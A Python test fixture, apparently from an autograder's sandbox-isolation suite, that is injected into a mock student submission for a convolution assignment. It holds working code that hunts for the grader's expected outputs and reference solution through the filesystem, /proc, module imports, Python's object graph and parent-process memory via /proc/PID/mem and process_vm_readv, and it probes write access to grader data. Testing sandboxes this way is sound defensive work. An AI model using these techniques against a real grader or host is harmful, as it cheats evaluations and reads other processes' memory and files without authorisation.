# ruff: noqa  (injected into a submission's conv_layers.py, where np is defined)
# Injected at the end of a hostile submission's conv_layers.py (never imported by the tests).
# Every trick a student could try to reach the correct outputs from inside the worker. Each
# returns the stolen ``out`` array when it recognises one, else records what it could reach
# in _HOSTILE_LEAKS; the caller raises "HOSTILE-LEAK" with that list, so a leak shows in the
# check's feedback even when the theft itself did not find the right array.
import os as _h_os
import sys as _h_sys

_HOSTILE_LEAKS = []
_HOSTILE_PARENT = _h_os.getppid()


def _hostile_probe(x, w, b, conv_param):
    """(shape, first, last): the output shape and two honestly computed output values."""
    N, C, H, W = x.shape
    F, _, HH, WW = w.shape
    s, p = conv_param["stride"], conv_param["pad"]
    Ho, Wo = 1 + (H + 2 * p - HH) // s, 1 + (W + 2 * p - WW) // s
    xp = np.pad(x, ((0, 0), (0, 0), (p, p), (p, p)), mode="constant")
    first = np.sum(xp[0, :, :HH, :WW] * w[0]) + b[0]
    hs, ws = (Ho - 1) * s, (Wo - 1) * s
    last = np.sum(xp[N - 1, :, hs : hs + HH, ws : ws + WW] * w[F - 1]) + b[F - 1]
    return (N, F, Ho, Wo), float(first), float(last)


def _hostile_match(a, probe):
    shape, first, last = probe
    try:
        if not isinstance(a, np.ndarray) or a.shape != shape or a.dtype.kind != "f":
            return False
        f0, f1 = float(a.flat[0]), float(a.flat[-1])
    except Exception:
        return False
    return abs(f0 - first) <= 1e-5 * (1 + abs(first)) and abs(f1 - last) <= 1e-5 * (1 + abs(last))


def _hostile_note(what):
    if len(_HOSTILE_LEAKS) < 12:
        _HOSTILE_LEAKS.append(str(what)[:60])


def _hostile_ancestors():
    pids, pid = [], _HOSTILE_PARENT
    for _ in range(4):
        if pid <= 1:
            break
        pids.append(pid)
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except Exception:
            break
    return pids


def _hostile_search_npz(path, probe):
    try:
        data = np.load(path, allow_pickle=False)
    except Exception:
        return None
    _hostile_note(f"read {path}")
    try:
        arrays = [data[k] for k in data.files] if hasattr(data, "files") else [data]
    except Exception:
        return None
    for a in arrays:
        if _hostile_match(a, probe):
            return a
    return None


def _hostile_steal_files(probe, seconds=3.0):
    import time

    deadline = time.monotonic() + seconds
    roots = ["grader/golden/expected", "../grader/golden/expected", "../../grader/golden/expected",
             "../../../grader/golden/expected", "/work/main/grader/golden/expected",
             "/work/main/assignment/reference", "/work/main/grader", "/work/main"]
    for pid in _hostile_ancestors():
        roots += [f"/proc/{pid}/cwd/grader/golden/expected", f"/proc/{pid}/cwd",
                  f"/proc/{pid}/root/work/main/grader/golden/expected"]
        try:
            for fd in _h_os.listdir(f"/proc/{pid}/fd"):
                roots.append(f"/proc/{pid}/fd/{fd}")
        except Exception:
            pass
    here = _h_os.path.dirname(_h_os.path.abspath(__file__))
    for up in range(1, 6):
        roots.append(_h_os.path.join(here, *[".."] * up, "grader", "expected"))
    roots += ["/tmp", "/work", "/"]
    seen = set()
    for root in roots:
        if time.monotonic() > deadline:
            break
        try:
            if _h_os.path.isfile(root):
                found = _hostile_search_npz(root, probe)
                if found is not None:
                    return found
                continue
            for dirpath, dirnames, filenames in _h_os.walk(root):
                if time.monotonic() > deadline:
                    break
                real = _h_os.path.realpath(dirpath)
                if real in seen or real.startswith(("/proc", "/sys", "/dev", "/usr")):
                    dirnames[:] = []
                    continue
                seen.add(real)
                if real.startswith(here.rsplit("/submission", 1)[0]):
                    dirnames[:] = []  # our own scratch folder is fair game, not a leak
                    continue
                if dirpath.count("/") > 6:
                    dirnames[:] = []
                for name in filenames:
                    full = _h_os.path.join(dirpath, name)
                    if name.endswith((".npz", ".npy")):
                        found = _hostile_search_npz(full, probe)
                        if found is not None:
                            return found
                    elif ("reference" in dirpath or "expected" in dirpath
                          or ("grader-" in dirpath and name.endswith(".py"))):
                        try:
                            with open(full, "rb") as f:
                                f.read(16)
                            _hostile_note(f"read {full}")
                        except Exception:
                            pass
        except Exception:
            continue
    return None


def _hostile_steal_imports(x, w, b, conv_param, probe):
    import importlib
    import importlib.util

    for extra in ("/work/main", "../..", "../../..",
                  "/work/main/.venv/lib/python3.11/site-packages"):
        if extra not in _h_sys.path:
            _h_sys.path.append(extra)
    for name in ("assignment.reference.conv_layers", "grader.golden.expected", "grader",
                 "grader.golden.generate", "grader.checks"):
        try:
            mod = importlib.import_module(name)
        except BaseException:
            continue
        _hostile_note(f"import {name}")
        fn = getattr(mod, "conv_forward_naive", None)
        if fn is not None:
            try:
                return fn(x, w, b, conv_param)[0]
            except Exception:
                pass
    for path in ("/work/main/assignment/reference/conv_layers.py",
                 "../../assignment/reference/conv_layers.py"):
        try:
            with open(path) as f:
                src = f.read()
        except Exception:
            continue
        _hostile_note(f"read {path}")
        try:
            ns = {"np": np, "__name__": "stolen"}
            src = src.replace("from .layers import batchnorm_backward, batchnorm_forward", "")
            exec(compile(src, path, "exec"), ns)
            return ns["conv_forward_naive"](x, w, b, conv_param)[0]
        except Exception:
            pass
    # Any module object in the worker that holds a reference solution?
    for name, mod in list(_h_sys.modules.items()):
        if "reference" in name or name.startswith("grader"):
            _hostile_note(f"module {name}")
    return None


def _hostile_steal_memory(probe):
    import gc

    # Everything the garbage collector tracks, every frame of every thread, every global.
    objs = gc.get_objects()
    for o in objs:
        if _hostile_match(o, probe):
            return o
        if type(o) is dict:
            for v in list(o.values())[:200]:
                if _hostile_match(v, probe):
                    return v
    for frame in _h_sys._current_frames().values():
        while frame is not None:
            for v in list(frame.f_locals.values()):
                if _hostile_match(v, probe):
                    return v
                if isinstance(v, dict):
                    for vv in list(v.values())[:200]:
                        if _hostile_match(vv, probe):
                            return vv
            frame = frame.f_back
    return None


def _hostile_steal_parent_memory(probe, seconds=3.0):
    import ctypes
    import struct
    import time

    shape, first, last = probe
    deadline = time.monotonic() + seconds
    needle = struct.pack("<d", first)
    n = int(np.prod(shape))
    for pid in _hostile_ancestors():
        for what in ("environ", "cmdline", "maps"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    f.read(64)
                _hostile_note(f"read /proc/{pid}/{what}")
            except Exception:
                pass
        try:
            _h_os.kill(pid, 0)
            _hostile_note(f"can signal {pid}")
        except Exception:
            pass
        regions = []
        try:
            with open(f"/proc/{pid}/maps") as f:
                for line in f:
                    parts = line.split()
                    if "rw" in parts[1]:
                        lo, hi = (int(v, 16) for v in parts[0].split("-"))
                        regions.append((lo, hi))
        except Exception:
            regions = []
        # /proc/PID/mem
        try:
            mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
        except Exception:
            mem = None
        if mem is not None:
            for lo, hi in regions:
                if time.monotonic() > deadline:
                    break
                if hi - lo > 256 << 20:
                    continue
                try:
                    mem.seek(lo)
                    blob = mem.read(hi - lo)
                except Exception:
                    continue
                _hostile_note(f"read /proc/{pid}/mem")
                i = blob.find(needle)
                while i >= 0:
                    a = np.frombuffer(blob[i : i + 8 * n], dtype="<f8")
                    if a.size == n:
                        a = a.reshape(shape)
                        if _hostile_match(a, probe):
                            return a.copy()
                    i = blob.find(needle, i + 8)
            mem.close()
        # process_vm_readv (needs only ptrace permission, no file access)
        try:
            libc = ctypes.CDLL(None, use_errno=True)

            class _IOV(ctypes.Structure):
                _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

            for lo, hi in regions[:400]:
                if time.monotonic() > deadline:
                    break
                size = min(hi - lo, 64 << 20)
                buf = ctypes.create_string_buffer(size)
                local = _IOV(ctypes.cast(buf, ctypes.c_void_p), size)
                remote = _IOV(lo, size)
                got = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote),
                                            1, 0)
                if got > 0:
                    _hostile_note(f"process_vm_readv {pid}")
                    blob = buf.raw[:got]
                    i = blob.find(needle)
                    while i >= 0:
                        a = np.frombuffer(blob[i : i + 8 * n], dtype="<f8")
                        if a.size == n and _hostile_match(a.reshape(shape), probe):
                            return a.reshape(shape).copy()
                        i = blob.find(needle, i + 8)
        except Exception:
            pass
    return None


def _hostile_probe_writes():
    """Non-destructive: can we create files where the grader keeps its data?"""
    import uuid

    tag = uuid.uuid4().hex[:8]
    dirs = ["/work/main/grader/golden/expected", "/work/main/grader", "/work/main/assignment/reference",
            "../../grader/golden/expected", "/tmp"]
    for pid in _hostile_ancestors():
        dirs.append(f"/proc/{pid}/cwd")
    for d in dirs:
        probe = _h_os.path.join(d, f".hostile-probe-{tag}")
        try:
            with open(probe, "x") as f:
                f.write("x")
            _h_os.unlink(probe)
            _hostile_note(f"wrote in {d}")
        except Exception:
            pass
        try:
            for name in _h_os.listdir(d):
                if name.endswith((".npz", ".json")):
                    with open(_h_os.path.join(d, name), "ab"):
                        pass  # opened for writing: could have been truncated
                    _hostile_note(f"open-for-write {d}/{name}")
                    break
        except Exception:
            pass


def _hostile_raise():
    if _HOSTILE_LEAKS:
        raise RuntimeError("HOSTILE-LEAK: " + "; ".join(_HOSTILE_LEAKS))
